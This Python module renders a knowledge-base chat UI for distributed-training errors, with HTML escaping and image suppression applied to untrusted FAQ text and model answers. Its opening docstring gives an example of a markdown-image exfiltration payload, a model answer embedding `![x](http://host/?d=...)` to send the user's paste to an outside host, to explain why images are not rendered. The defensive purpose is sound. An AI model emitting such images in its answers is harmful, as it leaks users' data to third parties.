"""What the web door shows: the chat's answer markdown, the entry panel's HTML and the page's
own HTML/CSS/JS. Pure functions and strings (no gradio, no FastAPI), so they are tested without
a server and kb/web.py keeps only the serving.

FAQ text and model answers are untrusted: entry HTML is rendered with raw HTML off, chat markdown
is rewritten by `escape_md_html` so that no HTML of theirs reaches the page (the chat's sanitizer
runs on top, but is not relied on), and no remote image is ever rendered: an image in an answer
(`![x](http://host/?d=<the user's paste>)`) would make the browser send data to that host, and
one in a FAQ is a tracking beacon. Images are shown as their text and URL instead.
"""

from __future__ import annotations

import bisect
import html
import json
import re
from typing import TYPE_CHECKING

from .answer import CAUTION, LABELS, Answer, entry_in, is_destructive

if TYPE_CHECKING:
    from .service import KnowledgeBase

LOG_PREVIEW_LINES = 8  # a pasted log is shown in the chat by its last lines (all of it is searched)
BIG_PASTE_CHARS = 20_000  # pastes above this skip the browser's slow editing path (see PAGE_HEAD)


# --------------------------------------------------------------------------------------------
# Entry rendering (side panel and /entry pages): FAQ markdown with raw HTML shown as text
# --------------------------------------------------------------------------------------------
# markdown-it stops reading a container nested deeper than this and silently drops the rest; a
# body that reaches it is shown as plain text instead (commonmark's default is 20).
MAX_NESTING = 50


def _image_as_text(self, tokens, idx, options, env) -> str:
    """An image token as its alt text and its URL as a link: nothing is fetched."""
    token = tokens[idx]
    alt = html.escape(self.renderInlineAsText(token.children or [], options, env))
    src = html.escape(str(token.attrs.get("src", "")))
    return (
        f'<span class="kb-image">[image: {alt}] '
        f'<a href="{src}" target="_blank" rel="noopener noreferrer nofollow">{src}</a></span>'
    )


def _markdown(text: str) -> str:
    from markdown_it import MarkdownIt

    # html=False: a <script> (or any tag) in a FAQ is escaped and shown as text, never run.
    # markdown-it also refuses javascript:/vbscript:/data: link targets.
    md = MarkdownIt("commonmark", {"html": False, "maxNesting": MAX_NESTING}).enable("table")
    md.add_render_rule("image", _image_as_text)
    tokens = md.parse(text)
    if any(t.level >= MAX_NESTING - 1 for t in tokens):  # content past this level was dropped
        return (
            '<p class="kb-note">Nested too deeply to lay out; shown as plain text. · 嵌套过深，按纯文本显示。</p>'
            f'<pre class="kb-plain">{html.escape(text)}</pre>'
        )
    return md.renderer.render(tokens, md.options, {})


def _source_label(e) -> str:
    return f"{e.doc}:{e.start_line}-{e.end_line}"


def entry_html(kb: KnowledgeBase, e) -> str:
    """One entry: title, source path and lines, full body, and its other-language version."""
    esc = html.escape
    base = kb.settings.docs_base_url
    src = f"<code>{esc(_source_label(e))}</code>"
    if base:
        src = f'<a href="{esc(base.rstrip("/") + "/" + e.doc)}" target="_blank" rel="noopener">{src}</a>'
    parts = [
        f'<article class="kb-entry" data-entry-id="{esc(e.id)}" lang="{esc(e.lang)}">',
        f'<div class="kb-entry-meta"><span class="kb-lang">{esc(e.lang.upper())}</span> {src}</div>',
        f'<h3 class="kb-entry-title">{esc(e.title)}</h3>',
        f'<div class="kb-entry-body">{_markdown(e.body)}</div>',
    ]
    other = kb.entry(e.translation) if e.translation else None
    if other is not None:
        label = LABELS.get(e.lang, LABELS["en"])["other_lang"]
        parts += [
            f'<details class="kb-translation" open><summary>{esc(label)} · <code>{esc(_source_label(other))}</code></summary>',
            f'<h4 lang="{esc(other.lang)}">{esc(other.title)}</h4>',
            f'<div class="kb-entry-body" lang="{esc(other.lang)}">{_markdown(other.body)}</div></details>',
        ]
    parts.append("</article>")
    return "\n".join(parts)


def html_page(title: str, body: str) -> str:
    """A standalone page (`/entry/ID` without `?fragment=1`) with the panel's styles."""
    return (
        '<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
        f"<title>{html.escape(title)}</title><style>{PANEL_CSS}body{{max-width:52rem;margin:2rem auto;"
        f"padding:0 1rem;font-family:system-ui,sans-serif}}</style></head><body>{body}</body></html>"
    )


# --------------------------------------------------------------------------------------------
# Chat rendering: Answer -> markdown for the Chatbot
# --------------------------------------------------------------------------------------------
UI = {
    "en": {
        "thinking": "Searching the knowledge base…",
        "log_shown": "{n}-line log (the last {k} lines shown; all of it was searched)",
        "no_match_title": "No match",
        "error": "Something went wrong on the server ({kind}). Try again; if it persists, check the server log.",
    },
    "zh": {
        "thinking": "正在检索知识库…",
        "log_shown": "{n} 行日志（仅显示最后 {k} 行；已检索全部内容）",
        "no_match_title": "没有匹配",
        "error": "服务器出错（{kind}）。请重试；如果仍然出错，请查看服务器日志。",
    },
}

_FENCE = re.compile(r"(?ms)^(`{3,}|~{3,})[^\n]*\n.*?^\1[ \t]*$")
_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_MD_PUNCT = re.compile(r"([\\`*_{}\[\]()#+\-.!|~])")


def escape_md_html(text: str) -> str:
    """Markdown for the chat in which no HTML of the text's own can reach the page, and no image.

    The chat's markdown renderer (marked, in the browser) decides what is code; any `<` it sees
    outside code is HTML. Guessing its code spans with a regex failed (`\\`` is no code span to
    marked), so nothing here depends on agreeing with it:
    - a fenced block (CommonMark's open and close rules) is written again as a fence of our own at
      column 0, longer than any backtick run inside: marked sees exactly that fence, whatever
      list or quote came before it;
    - everywhere else `<` and `>` become entities and every `![` becomes `!\\[` (no image);
      inline code becomes `<code>` with its text escaped, so code that marked reads differently is
      at worst shown oddly, never run.
    """
    lines = text.split("\n")
    out: list[str] = []
    prose: list[str] = []
    i = 0
    while i < len(lines):
        m = _FENCE_OPEN.match(lines[i])
        if m and not (m.group(1)[0] == "`" and "`" in m.group(2)):
            marker = m.group(1)
            closer = re.compile(rf"^ {{0,3}}{re.escape(marker[0])}{{{len(marker)},}}[ \t]*$")
            end = next((j for j in range(i + 1, len(lines)) if closer.match(lines[j])), None)
            if end is not None:
                if prose:
                    out.append(_prose("\n".join(prose)))
                    prose = []
                info = re.sub(r"[^\w+.-]", "", m.group(2).strip().split(" ")[0])
                out.append(code_block("\n".join(lines[i + 1 : end]), info))
                i = end + 1
                continue
        prose.append(lines[i])
        i += 1
    if prose:
        out.append(_prose("\n".join(prose)))
    return "\n".join(out)


_PROSE_SPECIAL = re.compile(r"\\[\s\S]|`+|[<>]|!\[")


def _prose(s: str) -> str:
    """Text outside fences: see escape_md_html. One regex pass (a 2 MB one-line paste is shown)."""
    runs: dict[int, list[int]] = {}  # backtick run length -> where such runs start
    for m in re.finditer(r"`+", s):
        runs.setdefault(len(m.group(0)), []).append(m.start())
    out: list[str] = []
    pos = 0
    while (m := _PROSE_SPECIAL.search(s, pos)) is not None:
        out.append(s[pos : m.start()])
        token, pos = m.group(0), m.end()
        if token[0] == "\\":
            # \< is a literal "<" to markdown: the entity says the same without the backslash.
            out.append({"\\<": "&lt;", "\\>": "&gt;"}.get(token, token))
        elif token[0] == "`":
            starts = runs.get(len(token), [])
            k = bisect.bisect_left(starts, pos)
            if k == len(starts):  # never closed: literal backticks, escaped so marked pairs none
                out.append("\\`" * len(token))
            else:  # a code span (backslashes inside it are literal, as in CommonMark)
                out.append(_inline_code(s[pos : starts[k]]))
                pos = starts[k] + len(token)
        elif token == "![":
            out.append("!\\[")  # never an image: its text and URL stay visible
        else:
            out.append("&lt;" if token == "<" else "&gt;")
    out.append(s[pos:])
    return "".join(out)


def _inline_code(code: str) -> str:
    code = code.replace("\n", " ")
    if len(code) > 2 and code[0] == code[-1] == " " and code.strip():
        code = code[1:-1]
    return "<code>" + html.escape(_MD_PUNCT.sub(r"\\\1", code), quote=False) + "</code>"


def _link_text(s: str) -> str:
    return re.sub(r"(?<!\\)([\[\]])", r"\\\1", escape_md_html(s))


def entry_link(e, label: str | None = None) -> str:
    # Relative, so it also works when the app is served under a prefix; the page's script opens
    # it in the side panel, and without the script it is an ordinary page.
    return f"[{_link_text(label if label is not None else e.title)}](entry/{e.id})"


def code_block(command: str, info: str = "bash") -> str:
    longest = max((len(m) for m in re.findall(r"`+", command)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{command}\n{fence}"


def link_citations(text: str, answer: Answer) -> str:
    """`[n]` in the answer text -> a link that opens cited entry n."""
    by_n = {c.n: c.entry for c in answer.citations}

    def sub(m: re.Match) -> str:
        e = by_n.get(int(m.group(1)))
        return f"[\\[{m.group(1)}\\]](entry/{e.id})" if e is not None else m.group(0)

    return re.sub(r"(?<![\[\\])\[(\d{1,2})\](?![\(\[])", sub, text)


def _in_fence(command: str, text: str) -> bool:
    return any(command.strip() in m.group(0) for m in _FENCE.finditer(text))


def _label_destructive_fences(md: str, lang: str) -> str:
    """A code block inside the answer text that holds a destructive command gets the caution too."""

    def sub(m: re.Match) -> str:
        lines = m.group(0).split("\n")[1:-1]
        return f"> ⚠ **{CAUTION[lang]}**\n\n{m.group(0)}" if any(map(is_destructive, lines)) else m.group(0)

    return _FENCE.sub(sub, md)


def render_answer(answer: Answer) -> str:
    lang = answer.lang if answer.lang in LABELS else "en"
    labels, ui = LABELS[lang], UI[lang]
    out: list[str] = []
    if answer.notice:
        out.append(f"> ℹ {escape_md_html(answer.notice)}")
    if answer.no_match:
        out.append(f"**{ui['no_match_title']}** · {escape_md_html(answer.text)}")
        if answer.suggestions:
            out.append(labels["suggest"])
            out.append(
                "\n".join(
                    f"- {entry_link(entry_in(h, lang))} · `{_source_label(entry_in(h, lang))}`"
                    for h in answer.suggestions
                )
            )
        return "\n\n".join(out)
    out.append(_label_destructive_fences(link_citations(escape_md_html(answer.text), answer), lang))
    commands = answer.commands
    if answer.mode == "llm":  # the model's answer shows its (verified) commands in code blocks
        commands = tuple(c for c in commands if not _in_fence(c, answer.text))
    if commands:
        out.append(f"**{labels['commands']}**")
        for cmd in commands:
            if is_destructive(cmd):
                out.append(f"> ⚠ **{CAUTION[lang]}**")
            out.append(code_block(cmd))
    if answer.citations:
        out.append(f"**{labels['sources']}**")
        out.append(
            "\n".join(
                f"- {entry_link(c.entry, f'[{c.n}] {c.entry.title}')} · `{_source_label(c.entry)}`"
                for c in answer.citations
            )
        )
    return "\n\n".join(out)


def render_user(message: str, lang: str) -> str:
    """A pasted log is shown by its last lines (where the error usually is); a question as text."""
    lines = message.rstrip("\n").split("\n")
    if len(lines) <= LOG_PREVIEW_LINES:
        return code_block(message.rstrip("\n"), "text") if len(lines) > 1 else escape_md_html(message)
    note = UI[lang]["log_shown"].format(n=len(lines), k=LOG_PREVIEW_LINES)
    return f"*{note}*\n\n" + code_block("\n".join(lines[-LOG_PREVIEW_LINES:]), "text")


# --------------------------------------------------------------------------------------------
# The page
# --------------------------------------------------------------------------------------------
EXAMPLES = [
    ("NCCL error(2)", "ExternalError: Nccl error(2), unhandled system error"),
    ("HCCL 1343225860", "Init plugin so failed, ret = 1343225860"),
    ("多机训练 NCCL 超时", "多机多卡训练时 NCCL 通信超时，报错 NCCL timeout，怎么排查？"),
    ("accelerate hang", "accelerate launch with 2 GPUs hangs at the first step, no error message"),
    ("Paddle 分布式启动失败", "paddle.distributed.launch 启动多卡训练失败，怎么设置环境变量？"),
]

LANG_CHOICES = [("Auto · 跟随提问", "auto"), ("中文", "zh"), ("English", "en")]

I18N = {
    "en": {
        "title": "Distributed-training error helper",
        "paste": "Paste the error or the whole log (Enter sends, Shift+Enter adds a line)",
        "placeholder": "e.g. ExternalError: Nccl error(2), unhandled system error — or paste 5,000 lines of log",
        "send": "Send",
        "clear": "Clear",
        "lang": "Answer language · 回答语言",
        "examples": "Example errors (click to ask)",
        "chat": "Answers",
    },
    "zh": {
        "title": "分布式训练报错助手",
        "paste": "粘贴报错或整段日志（Enter 发送，Shift+Enter 换行）",
        "placeholder": "例如 ExternalError: Nccl error(2), unhandled system error —— 也可以粘贴 5000 行日志",
        "send": "发送",
        "clear": "清空",
        "lang": "回答语言 · Answer language",
        "examples": "示例报错（点击即可提问）",
        "chat": "回答",
    },
}

PANEL_PLACEHOLDER = (
    '<div id="kb-entry" class="kb-panel-empty">'
    "<p>Click a citation such as [1] in an answer to read the cited FAQ entry here.</p>"
    "<p>点击回答中的引用（如 [1]），在这里查看原文条目。</p></div>"
)
PANEL_HTML = '<div class="kb-panel-head">Source entry · 原文条目</div>' + PANEL_PLACEHOLDER

PANEL_CSS = """
.kb-entry-meta{font-size:.85em;opacity:.8;margin-bottom:.25rem}
.kb-lang{display:inline-block;padding:0 .4em;border-radius:.3em;background:#e0e7ff;color:#3730a3;font-weight:600}
.kb-entry-title{margin:.2rem 0 .6rem 0}
.kb-entry-body pre{white-space:pre-wrap;word-break:break-word;background:#f6f8fa;padding:.6em;border-radius:.4em;font-size:.85em}
.kb-entry-body code{word-break:break-word}
.kb-translation{margin-top:1rem;border-top:1px solid #ddd;padding-top:.6rem}
.kb-translation summary{cursor:pointer;font-weight:600}
"""

PAGE_CSS = (
    PANEL_CSS
    + """
#kb-side{position:sticky;top:.5rem;align-self:flex-start}
#kb-panel{max-height:88vh;overflow:auto;padding:.8rem 1rem;border:1px solid var(--border-color-primary);
  border-radius:var(--radius-lg);background:var(--background-fill-primary)}
.kb-panel-empty{opacity:.75}
.kb-panel-head{font-size:.8em;font-weight:600;text-transform:uppercase;letter-spacing:.04em;opacity:.6;
  margin-bottom:.5rem}
#kb-chat .user-row pre, #kb-chat .user-row pre code{white-space:pre-wrap;word-break:break-all}
#kb-query textarea{font-family:ui-monospace,SFMono-Regular,Menlo,monospace;font-size:.85em}
#kb-stats{font-size:.8em;opacity:.7}
.kb-flash{animation:kbflash 1s ease-out}
@keyframes kbflash{from{background:#fef9c3}to{background:transparent}}
"""
)

# Document-level script (the `head` hook): citation links open the side panel; Enter sends and
# Shift+Enter adds a line (Gradio's multi-line box does the reverse, so we take the key first).
PAGE_HEAD = """
<script>
(() => {
  const ENTRY = /\\/entry\\/([A-Za-z0-9_-]+)\\/?$/;
  function entryUrl(a) {
    try {
      const u = new URL(a.getAttribute('href'), document.baseURI);
      return u.origin === location.origin && ENTRY.test(u.pathname) ? u : null;
    } catch (e) { return null; }
  }
  async function openEntry(u) {
    const panel = document.getElementById('kb-entry');
    if (!panel) { window.open(u.href, '_blank'); return; }
    panel.classList.remove('kb-panel-empty');
    panel.setAttribute('aria-busy', 'true');
    try {
      const r = await fetch(u.pathname + '?fragment=1', {headers: {Accept: 'text/html'}});
      panel.innerHTML = await r.text();  // rendered on the server with FAQ HTML escaped
    } catch (e) {
      panel.textContent = 'Could not load the entry / 无法加载条目: ' + e;
    }
    panel.removeAttribute('aria-busy');
    const box = document.getElementById('kb-panel');
    if (box) { box.scrollTop = 0; box.classList.remove('kb-flash'); void box.offsetWidth; box.classList.add('kb-flash'); }
  }
  document.addEventListener('click', (ev) => {
    const t = ev.target;
    if (!(t instanceof Element)) return;
    const a = t.closest('a[href]');
    const u = a && entryUrl(a);
    if (u && !ev.ctrlKey && !ev.metaKey && !ev.shiftKey && ev.button === 0) {
      ev.preventDefault(); ev.stopPropagation();
      openEntry(u);
      return;
    }
    if (t.closest('#kb-clear')) {
      const panel = document.getElementById('kb-entry');
      if (panel) { panel.outerHTML = %PLACEHOLDER%; }
    }
  }, true);
  // Gradio's box submits on Shift+Enter in its keypress handler: keep both key events from it.
  const onEnter = (ev) => {
    if (ev.key !== 'Enter' || ev.isComposing || ev.keyCode === 229) return;  // IME confirmation
    const t = ev.target;
    if (!(t instanceof Element) || !t.closest('#kb-query')) return;
    ev.stopPropagation();
    if (ev.shiftKey || ev.type !== 'keydown') return;  // Shift+Enter: the browser adds the newline
    ev.preventDefault();
    const send = document.querySelector('#kb-send');
    if (send) send.click();
  };
  document.addEventListener('keydown', onEnter, true);
  document.addEventListener('keypress', onEnter, true);
  // A big paste goes straight into the box: the browser's editing path takes seconds for a
  // few thousand lines (superlinear), setting the value takes milliseconds.
  document.addEventListener('paste', (ev) => {
    const t = ev.target;
    if (!(t instanceof HTMLTextAreaElement) || !t.closest('#kb-query')) return;
    const text = ev.clipboardData ? ev.clipboardData.getData('text/plain') : '';
    if (text.length < %BIG_PASTE%) return;
    ev.preventDefault();
    const start = t.selectionStart, end = t.selectionEnd;
    t.value = t.value.slice(0, start) + text + t.value.slice(end);
    t.selectionStart = t.selectionEnd = start + text.length;
    t.dispatchEvent(new Event('input', {bubbles: true}));  // Gradio reads the value on input
  }, true);
})();
</script>
""".replace("%PLACEHOLDER%", json.dumps(PANEL_PLACEHOLDER)).replace("%BIG_PASTE%", str(BIG_PASTE_CHARS))
